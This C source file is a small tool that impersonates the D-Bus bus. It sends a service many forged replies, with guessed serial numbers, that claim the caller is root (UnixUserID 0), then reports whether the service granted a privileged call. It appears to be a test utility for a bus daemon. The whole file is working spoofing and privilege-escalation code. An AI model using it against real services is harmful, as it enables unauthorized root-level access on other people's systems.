/* SPDX-License-Identifier: ISC */
/*
 * bus_spoof ADDRESS NAME: call NAME, and tell it in the bus's place that it is
 * root who calls, in as many replies as it takes to guess the question's
 * serial number.  Prints the error the call was answered with, or "served".
 */
#include <sys/types.h>

#include <dbus/dbus.h>
#include <err.h>
#include <stdio.h>

#define SERIAL_MOST 200		/* of a busd that has just begun */
#define ROUNDS 100

static void
must(dbus_bool_t ok)
{
	if (!ok)
		errx(1, "libdbus");
}

/* As the bus would answer the question with this number. */
static void
lie(DBusConnection *conn, const char *name, dbus_uint32_t serial)
{
	DBusMessage *msg = dbus_message_new(DBUS_MESSAGE_TYPE_METHOD_RETURN);
	DBusMessageIter iter, dict, entry, value;
	const char *key = "UnixUserID";
	dbus_uint32_t root = 0;

	must(msg != NULL && dbus_message_set_destination(msg, name) &&
	    dbus_message_set_reply_serial(msg, serial));
	dbus_message_set_no_reply(msg, TRUE);
	dbus_message_iter_init_append(msg, &iter);
	must(dbus_message_iter_open_container(&iter, 'a', "{sv}", &dict));
	must(dbus_message_iter_open_container(&dict, 'e', NULL, &entry));
	must(dbus_message_iter_append_basic(&entry, 's', &key));
	must(dbus_message_iter_open_container(&entry, 'v', "u", &value));
	must(dbus_message_iter_append_basic(&value, 'u', &root));
	must(dbus_message_iter_close_container(&entry, &value));
	must(dbus_message_iter_close_container(&dict, &entry));
	must(dbus_message_iter_close_container(&iter, &dict));
	must(dbus_connection_send(conn, msg, NULL));
	dbus_message_unref(msg);
}

int
main(int argc, char **argv)
{
	DBusError error = DBUS_ERROR_INIT;
	DBusPendingCall *pending;
	DBusConnection *conn;
	DBusMessage *msg;
	const char *name;
	dbus_uint32_t i;

	if (argc != 3)
		errx(1, "usage: bus_spoof ADDRESS NAME");
	conn = dbus_connection_open_private(argv[1], &error);
	if (conn == NULL || !dbus_bus_register(conn, &error))
		errx(1, "%s", error.message);
	msg = dbus_message_new_method_call(argv[2], "/", argv[2],
	    "GetAllClients");
	must(msg != NULL &&
	    dbus_connection_send_with_reply(conn, msg, &pending, -1));
	dbus_message_unref(msg);
	for (i = 0; i < SERIAL_MOST * ROUNDS; i++)
		lie(conn, argv[2], i % SERIAL_MOST + 1);
	dbus_connection_flush(conn);
	dbus_pending_call_block(pending);
	msg = dbus_pending_call_steal_reply(pending);
	name = dbus_message_get_error_name(msg);
	puts(name == NULL ? "served" : name);
	return 0;
}
